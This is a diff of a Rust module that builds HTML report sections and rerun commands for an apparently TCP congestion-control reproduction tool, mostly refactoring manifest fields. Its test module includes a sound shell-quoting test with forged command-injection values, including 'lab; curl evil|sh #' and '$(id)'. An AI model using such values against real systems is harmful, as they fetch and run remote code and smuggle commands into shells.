@@ -2,22 +2,23 @@
 
 use std::fmt::Write as _;
 
+use knee_results::manifest::Published;
+use knee_results::{Manifest, quoted as cell};
 use serde_json::json;
 
 use crate::captured::Captured;
-use crate::charts::{cell, charts, published_for};
+use crate::charts::{charts, published_for};
 use crate::claims;
 use crate::distribution;
-use crate::error::Error;
 use crate::figure::Figure;
 use crate::limited::Limited;
-use crate::manifest::{Manifest, Published};
 use crate::network;
 use crate::palette::{Style, styles};
 use crate::plot::{PANEL, Range, legend, mark, traces};
 use crate::series::{Group, Plot, Series};
 use crate::summary::Summary;
 use crate::text::{Unit, address, base64, escaped, metric, short_path, slug, stat, took};
+use knee_results::Error;
 
 /// What a section may take.
 #[derive(Clone, Copy)]
@@ -70,7 +71,7 @@ impl Section {
 
     /// The id of the section in the page.
     pub(crate) fn id(&self) -> String {
-        slug(&self.manifest.name)
+        slug(&self.manifest.experiment)
     }
 
     /// The section; links to its files begin with `files`. `full`: whether the reproduction that it belongs to is.
@@ -84,7 +85,7 @@ impl Section {
         let id = self.id();
         let mut out = format!(
             "<section class=\"experiment\" id=\"{id}\"><header><h2>{}</h2>",
-            escaped(&m.name)
+            escaped(&m.experiment)
         );
         let _ = write!(out, "<p class=\"question\">{}</p>", escaped(&m.question));
         let _ = write!(out, "<p class=\"meta\">{}</p></header>", escaped(&meta(m)));
@@ -92,14 +93,15 @@ impl Section {
             let _ = write!(
                 out,
                 "<p class=\"warn\">Stopped after {} of {} runs: what follows rests on these.</p>",
-                m.runs_done, m.runs
+                m.runs_done.unwrap_or_default(),
+                m.runs.unwrap_or_default()
             );
         }
         out.push_str(&self.limited.html());
-        if let Some(source) = &m.source {
+        if let Some(source) = &m.about.source {
             let _ = write!(out, "<p><b>Source:</b> {}</p>", escaped(source));
         }
-        if let Some(expect) = &m.expect {
+        if let Some(expect) = &m.about.expect {
             let _ = write!(out, "<p><b>Expected:</b> {}</p>", escaped(expect));
         }
         out.extend(self.network.iter().map(Figure::html));
@@ -121,7 +123,7 @@ impl Section {
         }
         out.push_str(&self.series_html(&id));
         out.extend(self.captured.iter().map(Captured::html));
-        if let Some(notes) = &m.notes {
+        if let Some(notes) = &m.about.notes {
             let _ = write!(
                 out,
                 "<details><summary>Choices made, and what was not stated</summary>{}</details>",
@@ -343,8 +345,8 @@ fn series_figure(m: &Manifest, group: &Group, every: usize) -> Figure {
     }
     let caption = if exact { "" } else { "The least and the largest value of each short period." };
     Figure {
-        id: format!("{}-series-{}", slug(&m.name), slug(&about)),
-        title: format!("{}: {about}, run {}", m.name, group.run),
+        id: format!("{}-series-{}", slug(&m.experiment), slug(&about)),
+        title: format!("{}: {about}, run {}", m.experiment, group.run),
         caption: caption.into(),
         legend: Vec::new(),
         pieces,
@@ -364,44 +366,47 @@ fn shares(values: &[f32], low: f32, high: f32) -> Vec<u8> {
 
 /// What was run, in a line.
 fn meta(m: &Manifest) -> String {
+    let (on, simulated) = (&m.back_end, m.back_end.is_simulated());
     let mut parts = Vec::new();
-    parts.push(match m.is_simulated() {
+    parts.push(match simulated {
         true => "simulated".to_owned(),
-        false if m.back_end.is_empty() => String::new(),
-        false => format!("real TCP ({})", m.back_end),
+        false if on.name.is_empty() => String::new(),
+        false => format!("real TCP ({})", on.name),
     });
-    parts.extend(
-        m.linux
-            .as_ref()
-            .filter(|_| m.is_simulated())
-            .map(|linux| format!("hosts as Linux {linux}")),
-    );
-    parts.extend((!m.is_simulated() && !m.kernel.is_empty()).then(|| m.kernel.clone()));
-    parts.extend((m.scale != 1.0).then(|| format!("scale {}", m.scale)));
-    parts.push(format!("{} runs", m.runs_done));
-    parts.extend((m.repeat > 1).then(|| format!("{} of each configuration", m.repeat)));
+    let linux = m.linux_profile.as_ref().filter(|_| simulated);
+    parts.extend(linux.map(|linux| format!("hosts as Linux {linux}")));
+    // The kernel whose TCP it is; several of one version are told by what they call themselves.
+    let own = on.word("kernel").or(on.word("version")).map(|own| format!("Linux {own}"));
+    parts.extend(own.or_else(|| m.kernel.clone()).filter(|_| !simulated));
+    parts.extend((on.scale != 1.0).then(|| format!("scale {}", on.scale)));
+    parts.extend(m.runs_done.map(|runs| format!("{runs} runs")));
+    parts.extend(m.repeat.filter(|n| *n > 1).map(|n| format!("{n} of each configuration")));
     parts.extend(m.seed.map(|seed| format!("seed {seed}")));
-    parts.extend(m.wall_s.map(|wall| format!("took {}", took(wall))));
-    parts.extend((!m.time.is_empty()).then(|| m.time.clone()));
-    parts.extend((!m.knee.is_empty()).then(|| format!("knee {}", m.knee)));
+    parts.extend(m.simulator.wall_s.map(|wall| format!("took {}", took(wall))));
+    parts.push(m.time.clone());
+    let commit = m.commit.as_deref().unwrap_or_default();
+    let knee = format!("{} {commit}", m.knee);
+    parts.extend(
+        Some(knee.trim()).filter(|knee| !knee.is_empty()).map(|knee| format!("knee {knee}")),
+    );
     parts.retain(|part| !part.is_empty());
     parts.join(" · ")
 }
 
 /// What runs it again: as part of a reproduction, and by itself.
 fn commands(m: &Manifest, full: Option<bool>) -> String {
-    let on = match m.back_end.as_str() {
+    let on = match m.back_end.name.as_str() {
         "" | "sim" => String::new(),
         "hosts" => " --on hosts=FILE".into(),
         other => {
-            let version = m.version.iter().map(|version| format!("={version}"));
-            format!(" --on {}", quoted(&format!("{other}{}", version.collect::<String>())))
+            let version = m.back_end.word("version").map(|version| format!("={version}"));
+            format!(" --on {}", quoted(&format!("{other}{}", version.unwrap_or_default())))
         }
     };
     let mut out = String::new();
     if let Some(full) = full {
         let full = if full { " --full" } else { "" };
-        let _ = writeln!(out, "knee reproduce {}{full}{on}", quoted(&m.name));
+        let _ = writeln!(out, "knee reproduce {}{full}{on}", quoted(&m.experiment));
     }
     // Only what stands behind `scenarios` is the same in every clone.
     let file = m.file.rfind("scenarios/").map_or(m.file.as_str(), |at| &m.file[at..]);
@@ -415,20 +420,20 @@ fn commands(m: &Manifest, full: Option<bool>) -> String {
     if m.quick {
         out.push_str(" --quick");
     }
-    if !m.asked_cc.is_empty() {
-        let _ = write!(out, " --cc {}", quoted(&m.asked_cc.join(",")));
+    if !m.asked.cc.is_empty() {
+        let _ = write!(out, " --cc {}", quoted(&m.asked.cc.join(",")));
     }
-    for set in &m.asked_set {
+    for set in &m.asked.set {
         let _ = write!(out, " --set {}", quoted(set));
     }
-    if m.repeat > 0 {
-        let _ = write!(out, " --repeat {}", m.repeat);
+    if let Some(repeat) = m.repeat {
+        let _ = write!(out, " --repeat {repeat}");
     }
     if let Some(seed) = m.seed {
         let _ = write!(out, " --seed {seed}");
     }
-    if m.scale != 1.0 {
-        let _ = write!(out, " --scale {}", m.scale);
+    if m.back_end.scale != 1.0 {
+        let _ = write!(out, " --scale {}", m.back_end.scale);
     }
     out
 }
@@ -594,7 +599,7 @@ fn ratios(m: &Manifest, summary: &Summary, styles: &[Style]) -> Option<Figure> {
     let cases = cases.filter(|(case, _)| usable.iter().any(|(row, _)| row.case == **case));
     let near = usable.iter().filter(|(row, ours)| (0.8..=1.25).contains(&ratio(row, *ours)));
     Some(Figure {
-        id: format!("{}-ratios", slug(&m.name)),
+        id: format!("{}-ratios", slug(&m.experiment)),
         title: "Ours over published".into(),
         caption: format!(
             "{} of {} figures are 0.8 to 1.25 times what was published. Pale bars: 95 % confidence interval of our mean.",
@@ -609,6 +614,8 @@ fn ratios(m: &Manifest, summary: &Summary, styles: &[Style]) -> Option<Figure> {
 
 #[cfg(test)]
 mod tests {
+    use knee_results::manifest::{Asked, BackEnd};
+
     use super::*;
 
     #[test]
@@ -619,15 +626,19 @@ mod tests {
         assert_eq!(shares(&[5.0], 5.0, 5.0), [0, 0]);
     }
 
+    fn on(name: &str, version: Option<&str>, scale: f64) -> BackEnd {
+        let about = version.map(|version| ("version".to_owned(), version.into()));
+        BackEnd { name: name.into(), scale, about: about.into_iter().collect() }
+    }
+
     #[test]
     fn commands_name_no_machine_and_have_what_was_asked_for() {
         let plain = Manifest {
-            name: "incast".into(),
+            experiment: "incast".into(),
             file: "/home/someone/knee/scenarios/published/incast.toml".into(),
-            repeat: 3,
+            repeat: Some(3),
             seed: Some(7),
-            back_end: "sim".into(),
-            scale: 1.0,
+            back_end: on("sim", None, 1.0),
             ..Manifest::default()
         };
         assert_eq!(
@@ -636,10 +647,11 @@ mod tests {
         );
         let asked = Manifest {
             quick: true,
-            asked_cc: vec!["cubic".into(), "dctcp".into()],
-            asked_set: vec!["hosts.mtu=\"9000 B\"".into(), "params.shift_g=5".into()],
-            back_end: "lab".into(),
-            scale: 0.1,
+            asked: Asked {
+                cc: vec!["cubic".into(), "dctcp".into()],
+                set: vec!["hosts.mtu=\"9000 B\"".into(), "params.shift_g=5".into()],
+            },
+            back_end: on("lab", None, 0.1),
             ..plain
         };
         assert_eq!(
@@ -648,9 +660,7 @@ mod tests {
              --set params.shift_g=5 --repeat 3 --seed 7 --scale 0.1"
         );
         let virtual_time = Manifest {
-            back_end: "vkernel".into(),
-            version: Some("6.1".into()),
-            scale: 1.0,
+            back_end: on("vkernel", Some("6.1"), 1.0),
             file: "incast.toml".into(),
             ..Manifest::default()
         };
@@ -660,11 +670,9 @@ mod tests {
     #[test]
     fn what_a_manifest_says_is_a_word_of_the_shell_and_no_command() {
         let forged = Manifest {
-            name: "x; id".into(),
+            experiment: "x; id".into(),
             file: "-o /etc/passwd".into(),
-            back_end: "lab; curl evil|sh #".into(),
-            version: Some("$(id)".into()),
-            scale: 1.0,
+            back_end: on("lab; curl evil|sh #", Some("$(id)"), 1.0),
             ..Manifest::default()
         };
         assert_eq!(
